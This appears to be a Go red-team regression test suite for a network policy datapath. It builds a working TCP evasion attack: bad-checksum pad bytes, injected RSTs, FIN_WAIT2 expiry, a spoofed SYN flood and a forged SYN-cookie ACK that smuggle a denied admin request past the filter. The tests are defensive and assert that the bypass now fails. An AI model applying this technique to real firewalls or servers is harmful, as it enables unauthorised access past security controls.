package evasion

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// Red team rt50: a server connection that dies while the datapath's flow
// lives on, re-created by a SYN cookie at the flow's next byte.
// Topologies on 10.61.<n>.0/24 and fd61:<n>::/64.
//
// A Linux listener answering with SYN cookies accepts, from any ACK that
// finds no socket for its 4-tuple, a new connection whose client ISN is
// seq-1 if ack-1 is the cookie of that ISN, and within one cookie minute
// (and the next, for a cookie of the minute before) the cookie of ISN J is
// C(J) = C(I) + (J - I). A flow whose handshake drew the cookie C(I)
// (srv_isn) then holds, at its next byte X, a valid cookie ACK: seq X,
// ack C(I) + (X - base_seq) + 1, inside the datapath's ACK bounds
// [srv_isn+1, srv_nxt] as soon as the server has sent X - base_seq bytes.
// Once the server's socket is gone and the flow is not, that ACK opens a
// server connection whose first byte is X, while the datapath parses X as
// the continuation of what it parsed before: D bytes of an allowed head (or
// of an allowed POST's body) the server never took (a bad TCP checksum).
//
// Ways to kill the server's socket without the flow going, each a test:
//
//	RST:           a RST at the server's rcv_nxt while the datapath's
//	               next_seq is D bytes further (the datapath deletes the
//	               flow only for a RST at exactly next_seq, and passes every
//	               other one); also under a SYN flood with Linux's default
//	               tcp_syncookies=1 (Flood);
//	Close:         the server closes ("Connection: close"), the client
//	               acknowledges its FIN and never sends one, and the orphaned
//	               FIN_WAIT2 socket goes without a packet after
//	               net.ipv4.tcp_fin_timeout (shortened to 1 s in the server's
//	               namespace; rt50 also ran Linux's 60 s, which fits in a
//	               cookie's two minutes when the handshake falls early in
//	               one);
//	HeaderTimeout: the server's own header timeout closes a connection
//	               whose head the client left open: no pad the server
//	               drops, and no forged segment at all (an ordinary client
//	               socket whose byte count makes its next segment the cookie
//	               ACK; redteam_rt50_headertimeout_test.go, build tag
//	               isolated: run alone).
//
// Every test runs the controls (an allowed raw request is served over IPv4
// and IPv6, a plain denied one is reset); RST also runs the attack without
// the pad (the datapath's next byte at a request boundary), which is reset.
//
// The denied head ran on Go, nginx and Python, over IPv4 and IPv6, in every
// variant. Closed (class 38): before a data segment passes, the datapath
// looks the server's socket up in the pod's namespace; one that finds only
// the listener once the server acknowledged data (the connection is gone:
// a cookie ACK would open another), a TIME_WAIT socket, or a connection
// that is not the flow's is refused (server_conn_mismatch), and a RST
// behind the flow's next byte is dropped (the server keeps its socket).

func newTopo61(t *testing.T, n int) *topo {
	t.Helper()
	return newTopoIn(t, "10.61", "fd61", n)
}

// rebornConn is one raw connection driven through the attack.
type rebornConn struct {
	tp   *topo
	f    *Flow
	base uint32 // the flow's first client byte (our ISN + 1)
	next uint32 // the datapath's next_seq
	fin  bool   // the server's FIN came, in order
	rst  bool   // the server reset
}

// rebornShape is what the datapath parses before the attack's bytes and
// the attack's bytes themselves.
type rebornShape struct {
	name string
	// pad returns the D bytes sent with a bad checksum (the datapath
	// parses them, the server drops them) that make the datapath read
	// attack as the rest of an allowed request.
	pad func(ok string, attack []byte) []byte
}

// rebornControl is the attack without the pad in the RST variant: the RST
// falls at exactly next_seq and deletes the flow, so the data is no_flow,
// reset.
var rebornControl = rebornShape{name: "nopad-control", pad: func(string, []byte) []byte { return nil }}

var rebornShapes = []rebornShape{
	{
		// An allowed request line and a header under way: the attack's
		// request line is the rest of X-Pad's value.
		name: "head",
		pad: func(ok string, _ []byte) []byte {
			return []byte("GET /api/v1/" + ok + " HTTP/1.1\r\nX-Pad: ")
		},
	},
	{
		// An allowed POST whose Content-Length body starts with a line
		// no server runs ("x"): the attack is the rest of its body,
		// skipped by count.
		name: "body",
		pad: func(ok string, attack []byte) []byte {
			return []byte(fmt.Sprintf("POST /api/v1/%s HTTP/1.1\r\nHost: srv\r\nContent-Length: %d\r\n\r\nx\n", ok, 2+len(attack)))
		},
	},
}

// rebornHandshake opens a raw connection to s (the SYN-ACK is a cookie:
// tcp_syncookies=2 in the server's namespace).
func rebornHandshake(t *testing.T, tp *topo, s server, v6 bool) *rebornConn {
	t.Helper()
	f := tp.rawFlow(s.Port(), v6)
	must(t, f.Handshake(nil, 3*time.Second))
	c := &rebornConn{tp: tp, f: f, base: f.ISN + 1, next: f.ISN + 1}
	t.Cleanup(func() { f.Next = c.next; f.Abort() })
	return c
}

// read takes the server's segments for up to timeout, until done says so.
func (c *rebornConn) read(timeout time.Duration, done func() bool) bool {
	f := c.f
	deadline := time.After(timeout)
	for !done() {
		select {
		case p := <-f.in:
			if p.Src != f.Remote.Addr() || p.SrcPort != f.Remote.Port() {
				continue
			}
			f.mu.Lock()
			if p.Flags&RST != 0 {
				c.rst = true
			}
			ack := false
			if len(p.Payload) > 0 && p.Seq == f.srvNext {
				f.resp = append(f.resp, p.Payload...)
				f.srvNext += uint32(len(p.Payload))
				ack = true
			}
			if p.Flags&FIN != 0 && p.Seq+uint32(len(p.Payload)) == f.srvNext {
				c.fin = true
			}
			next := f.srvNext
			f.mu.Unlock()
			if ack {
				// Python writes a response's head and body apart: Nagle
				// holds its next head until the body is acknowledged.
				_ = f.Send(Segment{Seq: c.next, Ack: next, Flags: ACK})
			}
		case <-deadline:
			return false
		}
	}
	return true
}

func (c *rebornConn) resp() string {
	c.f.mu.Lock()
	defer c.f.mu.Unlock()
	return string(c.f.resp)
}

// served is how many bytes of its stream the server has sent (its FIN
// not counted).
func (c *rebornConn) served() uint32 {
	c.f.mu.Lock()
	defer c.f.mu.Unlock()
	return c.f.srvNext - c.f.SrvISN - 1
}

func (c *rebornConn) srvNext() uint32 {
	c.f.mu.Lock()
	defer c.f.mu.Unlock()
	return c.f.srvNext
}

// send sends payload at the datapath's next byte, acknowledging what the
// server sent, and moves next past it.
func (c *rebornConn) send(t *testing.T, payload []byte, badSum bool) {
	t.Helper()
	must(t, c.f.Send(Segment{Seq: c.next, Ack: c.srvNext(), Flags: ACK | PSH, Payload: payload, BadChecksum: badSum}))
	c.next += uint32(len(payload))
}

// allowed sends one allowed GET (with extra header lines) and waits for
// its response.
func (c *rebornConn) allowed(t *testing.T, s server, extra string) {
	t.Helper()
	want := strings.Count(c.resp(), "HTTP/1.1 200 ") + 1
	c.send(t, []byte("GET /api/v1/"+token("rt50ok")+" HTTP/1.1\r\nHost: srv\r\n"+extra+"\r\n"), false)
	if !c.read(3*time.Second, func() bool { return strings.Count(c.resp(), "HTTP/1.1 200 ") >= want || c.rst }) {
		t.Fatalf("%s: no response to allowed request %d: %q", s.Name(), want, c.resp())
	}
	if c.rst {
		t.Fatalf("%s: allowed request %d reset", s.Name(), want)
	}
}

// pumpServer sends allowed requests (one at least) until the server has
// sent at least as many bytes as the client will have sent once extra more
// are sent: the cookie ACK of the flow's next byte then lies within srv_nxt.
func (c *rebornConn) pumpServer(t *testing.T, s server, extra int) {
	t.Helper()
	for i := 0; i == 0 || c.served() < c.next-c.base+uint32(extra); i++ {
		if i == 20 {
			t.Fatalf("%s: the server's responses never outgrew the requests (%d < %d)", s.Name(), c.served(), c.next-c.base+uint32(extra))
		}
		c.allowed(t, s, "")
	}
}

// serverSockets lists the server's sockets of the connection (ss in the
// server's namespace), time-wait ones included.
func (c *rebornConn) serverSockets() []string {
	var out []string
	suffix := fmt.Sprintf(":%d", c.f.Local.Port())
	for _, l := range strings.Split(c.tp.run(c.tp.srv, "ss", "-Htan", "state", "all"), "\n") {
		fs := strings.Fields(l)
		if len(fs) >= 5 && strings.HasSuffix(fs[4], suffix) && strings.Contains(fs[4], c.f.Local.Addr().String()) {
			out = append(out, strings.Join(fs, " "))
		}
	}
	return out
}

// waitSocketGone waits until the server holds no socket of the connection.
func (c *rebornConn) waitSocketGone(t *testing.T, s server, timeout time.Duration) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		socks := c.serverSockets()
		if len(socks) == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s: the server's socket of the connection is still there: %q", s.Name(), socks)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// cookieAttack sends the attack's bytes at the flow's next byte X as the
// cookie ACK of ISN X-1 (ack C(I) + (X - base) + 1) and returns the answer
// of the connection it opens.
func (c *rebornConn) cookieAttack(t *testing.T, s server, attack []byte) (string, bool) {
	t.Helper()
	x := c.next
	ack := c.f.SrvISN + (x - c.base) + 1
	t.Logf("%s: cookie ACK seq=%d ack=%d (srv_isn %d, %d server bytes seen)", s.Name(), x, ack, c.f.SrvISN, c.served())
	c.f.adopt(x-1, ack-1)
	c.f.mu.Lock()
	c.f.resp = nil
	c.f.mu.Unlock()
	must(t, c.f.Send(Segment{Seq: x, Ack: ack, Flags: ACK | PSH, Payload: attack}))
	c.next += uint32(len(attack))
	return c.f.Response("\r\n\r\n", 1500*time.Millisecond)
}

// rebornAttack runs one variant on s over one connection: kill takes the
// connection from an open keep-alive one (the datapath's next byte at a
// request boundary) to one whose server socket is gone, with the pad
// parsed and not taken.
func rebornAttack(t *testing.T, tp *topo, s server, v6 bool, sh rebornShape, kill func(t *testing.T, c *rebornConn, pad []byte)) {
	r := rebornStart(t, tp, s, v6, sh)
	kill(t, r.c, r.pad)
	r.finish(t, s)
}

// rebornRun is one attack under way: the handshake done, the bytes chosen.
type rebornRun struct {
	c           *rebornConn
	sh          rebornShape
	bad         string
	attack, pad []byte
}

// rebornStart opens the connection and picks the denied head and the pad.
func rebornStart(t *testing.T, tp *topo, s server, v6 bool, sh rebornShape) *rebornRun {
	t.Helper()
	r := &rebornRun{sh: sh, bad: token("rt50bad")}
	r.attack = request("/api/admin/" + r.bad)
	r.pad = sh.pad(token("rt50pad"), r.attack)
	r.c = rebornHandshake(t, tp, s, v6)
	return r
}

// finish sends the cookie ACK with the denied head and checks the server's
// log (and, for the control without a pad, the reset).
func (r *rebornRun) finish(t *testing.T, s server) {
	t.Helper()
	resp, rst := r.c.cookieAttack(t, s, r.attack)
	t.Logf("%s %s: %s", s.Name(), r.sh.name, describe(resp, rst))
	if len(r.pad) == 0 && !rst {
		t.Errorf("%s: control without the pad not reset: %s", s.Name(), describe(resp, rst))
	}
	expectNeverRun(t, s, r.bad, fmt.Sprintf("GET /api/admin/%s sent as a cookie ACK at the flow's next byte after the server's socket died (%s shape; %s)", r.bad, r.sh.name, describe(resp, rst)))
	if t.Failed() {
		t.Logf("agent: %s", metricsSummary(r.c.tp.agent))
	}
}

// killByRST: the pad with a bad checksum, then a RST at the server's
// rcv_nxt (D bytes behind the datapath's next byte). Since class 38 the
// datapath drops a RST behind its next byte, and the server keeps its
// socket (the cookie ACK then reaches that socket, as data past its next
// byte); the control's RST, at the flow's next byte, ends both.
func killByRST(t *testing.T, c *rebornConn, pad []byte, s server) {
	t.Helper()
	c.pumpServer(t, s, len(pad))
	rcvNxt := c.next
	if len(pad) > 0 {
		c.send(t, pad, true)
		time.Sleep(30 * time.Millisecond)
	}
	must(t, c.f.Send(Segment{Seq: rcvNxt, Ack: c.srvNext(), Flags: RST | ACK}))
	if len(pad) == 0 {
		c.waitSocketGone(t, s, 2*time.Second)
		return
	}
	time.Sleep(200 * time.Millisecond)
	if len(c.serverSockets()) == 0 {
		t.Errorf("%s: a RST behind the flow's next byte reached the server and ended its socket", s.Name())
	}
}

// killByClose: keep-alive requests, then one with "Connection: close"; the
// client acknowledges the server's FIN (never sends its own), sends the pad
// with a bad checksum (closeConn), and waits for the orphaned FIN_WAIT2
// socket to go.
func killByClose(t *testing.T, c *rebornConn, pad []byte, s server, gone time.Duration) {
	t.Helper()
	closeConn(t, c, pad, s)
	c.waitSocketGone(t, s, gone)
}

func closeConn(t *testing.T, c *rebornConn, pad []byte, s server) {
	t.Helper()
	closeHdr := "Connection: close\r\n"
	c.pumpServer(t, s, len(pad)+len("GET /api/v1/rt50ok-00000000 HTTP/1.1\r\nHost: srv\r\n\r\n")+len(closeHdr))
	c.allowed(t, s, closeHdr)
	if !c.read(3*time.Second, func() bool { return c.fin || c.rst }) || c.rst {
		t.Fatalf("%s: no FIN after Connection: close (reset %v)", s.Name(), c.rst)
	}
	must(t, c.f.Send(Segment{Seq: c.next, Ack: c.srvNext() + 1, Flags: ACK}))
	time.Sleep(30 * time.Millisecond)
	if len(pad) > 0 {
		c.send(t, pad, true)
	}
}

// rebornTopo is a topology whose server answers every SYN with a cookie,
// with the controls: an allowed raw request is served, a denied one reset.
func rebornTopo(t *testing.T, n int, finTimeout string) (*topo, []server) {
	t.Helper()
	tp := newTopo61(t, n)
	tp.run(tp.srv, "sysctl", "-qw", "net.ipv4.tcp_syncookies=2")
	if finTimeout != "" {
		tp.run(tp.srv, "sysctl", "-qw", "net.ipv4.tcp_fin_timeout="+finTimeout)
	}
	tp.policy("Enforce", "")
	srvs := tp.servers("go", "nginx", "python")
	tp.startAgent()
	for _, s := range srvs {
		tp.rawControl(t, s, false)
		tp.rawControl(t, s, true)
		tp.rawDenied(t, s, "rt50plain")
	}
	return tp, srvs
}

// TestRedteamRt50CookieRebornRST: variant (A).
//
// Bytes on the wire (tcp_syncookies=2 in the server's namespace):
//
//  1. SYN seq=I; SYN-ACK seq=C(I) ack=I+1 (a cookie); ACK. Flow: base I+1,
//     srv_isn C(I).
//  2. Allowed "GET /api/v1/rt50ok-... HTTP/1.1\r\nHost: srv\r\n\r\n", as
//     many as it takes for the server's responses (N bytes) to outgrow
//     the client's bytes by D: the flow's srv_nxt is C(I)+1+N.
//  3. At the next byte R (the server's rcv_nxt), D pad bytes with a bad TCP
//     checksum: "GET /api/v1/rt50pad-... HTTP/1.1\r\nX-Pad: " (head shape)
//     or "POST /api/v1/rt50pad-... HTTP/1.1\r\nHost: srv\r\nContent-Length:
//     45\r\n\r\nx\n" (body shape). Parsed (next_seq = R+D), dropped.
//  4. RST|ACK seq=R: the server drops its socket; the datapath (next_seq
//     R+D) passes it and keeps the flow.
//  5. ACK|PSH seq=X=R+D ack=C(I)+(X-I-1)+1 with "GET /api/admin/rt50bad-...
//     HTTP/1.1\r\nHost: srv\r\n\r\n": for the datapath the rest of X-Pad (or
//     of the POST's body) of an allowed request, ack within [C(I)+1,
//     srv_nxt]; for the server the cookie ACK of ISN X-1 (cookie C(X-1) =
//     C(I)+X-1-I), a new connection that runs GET /api/admin.
func TestRedteamRt50CookieRebornRST(t *testing.T) {
	t.Parallel()
	tp, srvs := rebornTopo(t, 1, "")
	forServers(t, srvs, func(t *testing.T, s server) {
		for _, v6 := range []bool{false, true} {
			for _, sh := range append([]rebornShape{rebornControl}, rebornShapes...) {
				t.Run(famName(sh.name+"-", v6), func(t *testing.T) {
					rebornAttack(t, tp, s, v6, sh, func(t *testing.T, c *rebornConn, pad []byte) { killByRST(t, c, pad, s) })
				})
			}
		}
	})
}

// TestRedteamRt50CookieRebornClose: variant (B), the silent death.
//
// Bytes on the wire (tcp_syncookies=2 and tcp_fin_timeout=1 in the
// server's namespace):
//
//  1. SYN seq=I; cookie SYN-ACK seq=C(I); ACK.
//  2. Allowed GETs as in the RST variant, the last with "Connection:
//     close\r\n": the server answers and sends its FIN.
//  3. ACK (no data) of the server's FIN: its socket, closed by the
//     application, goes to FIN_WAIT2 and, a second later, away; the client
//     never sends a FIN (the flow stays open).
//  4. The D pad bytes with a bad checksum at the flow's next byte R.
//  5. Once the server holds no socket of the 4-tuple: the cookie ACK at
//     X=R+D with the denied head, as in the RST variant.
func TestRedteamRt50CookieRebornClose(t *testing.T) {
	t.Parallel()
	tp, srvs := rebornTopo(t, 2, "1")
	forServers(t, srvs, func(t *testing.T, s server) {
		for _, v6 := range []bool{false, true} {
			for _, sh := range rebornShapes {
				t.Run(famName(sh.name+"-", v6), func(t *testing.T) {
					rebornAttack(t, tp, s, v6, sh, func(t *testing.T, c *rebornConn, pad []byte) {
						killByClose(t, c, pad, s, 8*time.Second)
					})
				})
			}
		}
	})
}

// TestRedteamRt50CookieRebornFlood is TestRedteamRt50CookieRebornRST with
// Linux's default net.ipv4.tcp_syncookies=1: spoofed SYNs fill each
// listener's SYN queue (fillSynQueue), so the attacker's SYN draws a
// cookie; a listener that sent a cookie within two minutes takes cookie
// ACKs, so the flood need not outlast the handshake. Go and Python listen
// on one dual-stack socket (the IPv4 flood fills it for IPv6 too); nginx's
// IPv6 listener is another socket, not flooded: IPv4 only there.
func TestRedteamRt50CookieRebornFlood(t *testing.T) {
	t.Parallel()
	tp := newTopo61(t, 3)
	tp.policy("Enforce", "")
	srvs := tp.servers("go", "nginx", "python")
	tp.startAgent()
	for _, s := range srvs {
		tp.rawControl(t, s, false)
		tp.rawDenied(t, s, "rt50flplain")
	}
	forServers(t, srvs, func(t *testing.T, s server) {
		for _, v6 := range []bool{false, true} {
			if v6 && s.Name() == "nginx" {
				continue
			}
			for _, sh := range rebornShapes {
				t.Run(famName(sh.name+"-", v6), func(t *testing.T) {
					tp.fillSynQueue(t, s.Port(), 6000)
					before := tp.tcpExt("SyncookiesSent")
					rebornAttack(t, tp, s, v6, sh, func(t *testing.T, c *rebornConn, pad []byte) {
						if tp.tcpExt("SyncookiesSent") == before {
							t.Fatalf("%s: the handshake's SYN-ACK was no cookie", s.Name())
						}
						killByRST(t, c, pad, s)
					})
				})
			}
		}
	})
}
